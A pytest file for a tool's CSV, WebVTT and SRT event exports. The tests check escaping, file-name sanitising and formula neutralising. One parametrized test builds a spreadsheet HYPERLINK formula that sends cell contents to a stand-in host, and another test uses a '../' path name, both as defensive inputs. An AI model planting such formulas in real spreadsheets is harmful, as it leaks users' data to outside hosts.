"""Events as CSV, WebVTT and SRT, read back by other people's readers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
import webvtt

from tests.store_support import store_with_clip
from workbench.corrections import clips, history
from workbench.errors import FormatError
from workbench.exports import get_format
from workbench.exports.subtitles import to_srt, to_vtt
from workbench.exports.table import COLUMNS
from workbench.records import ReviewedClip

NASTY = 'He said "run", <b>now</b> & fast -->\nthen; fled, ünïcode.'


@pytest.fixture
def reviewed(tmp_path: Path) -> ReviewedClip:
    store, clip = store_with_clip(tmp_path)
    changes = [
        history.edit("event", "a1.e0", "description", NASTY),
        history.edit("event", "a1.e0", "start_s", 18.0004),
        history.edit("event", "a1.e1", "end_s", 39.0),
    ]
    history.save(store, clip.id, changes, annotator="ann")
    return clips.current(store, clip.id)


def test_csv_keeps_every_digit_and_every_character(reviewed: ReviewedClip, tmp_path: Path) -> None:
    assert get_format("csv").write([reviewed, reviewed], tmp_path / "events.csv") == 2
    with (tmp_path / "events.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 4
    assert tuple(rows[0]) == COLUMNS
    assert (rows[0]["clip"], rows[0]["description"], float(rows[0]["start_s"])) == ("street", NASTY, 18.0004)
    assert (rows[0]["made_by"], rows[0]["edited_by"], rows[1]["category"]) == ("model bundled", "ann", "")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_text_of_a_csv_is_a_formula(start: str, reviewed: ReviewedClip, tmp_path: Path) -> None:
    live = f'{start}HYPERLINK("http://a.example/?"&A1,"x")'
    first = replace(reviewed.events[0], category=live, peak_score=0.25)
    named = replace(reviewed, clip=replace(reviewed.clip, name=live), events=(first,))
    get_format("csv").write([named], tmp_path / "events.csv")
    with (tmp_path / "events.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["clip"], row["category"], row["label"]) == (f"'{live}", f"'{live}", "")
    assert (row["peak_score"], float(row["start_s"])) == ("0.25", first.start_s)


@pytest.mark.parametrize(("suffix", "render"), [(".vtt", to_vtt), (".srt", to_srt)])
def test_subtitles_open_in_a_reader_of_their_own(
    reviewed: ReviewedClip, tmp_path: Path, suffix: str, render: object
) -> None:
    path = tmp_path / f"street{suffix}"
    assert get_format(suffix[1:]).write([reviewed], path) == 1
    assert path.read_text(encoding="utf-8") == render(reviewed)  # type: ignore[operator]
    captions = list(webvtt.read(str(path)) if suffix == ".vtt" else webvtt.from_srt(str(path)))
    assert [(caption.start, caption.end) for caption in captions] == [
        ("00:00:18.000", "00:00:24.500"),
        ("00:00:39.000", "00:00:39.001"),
    ]
    assert captions[0].text.startswith('robbery: He said "run"')
    assert captions[1].text == "abnormal"


def test_vtt_markup_is_escaped(reviewed: ReviewedClip) -> None:
    (first, _) = webvtt.from_buffer(io.StringIO(to_vtt(reviewed)))
    assert "&lt;b&gt;now&lt;/b&gt; &amp; fast --&gt; then" in first.raw_text


def test_many_clips_go_to_a_folder(reviewed: ReviewedClip, tmp_path: Path) -> None:
    odd = replace(reviewed, clip=replace(reviewed.clip, id=2, name="../a:b"))
    assert get_format("vtt").write([reviewed, odd, odd], tmp_path / "all") == 3
    assert sorted(path.name for path in (tmp_path / "all").iterdir()) == ["_a_b-2.vtt", "_a_b.vtt", "street.vtt"]
    with pytest.raises(FormatError, match="one clip only"):
        get_format("vtt").write([reviewed, odd], tmp_path / "two.vtt")
    with pytest.raises(FormatError, match="no clip"):
        get_format("srt").write([], tmp_path / "none.srt")
    assert not (tmp_path / "two.vtt").exists()


def test_an_event_without_times_has_no_subtitle(reviewed: ReviewedClip) -> None:
    event = replace(reviewed.events[0], start_s=None, end_s=None)
    assert to_vtt(replace(reviewed, events=(event,))) == "WEBVTT\n"
    assert to_srt(replace(reviewed, events=(event,))) == ""
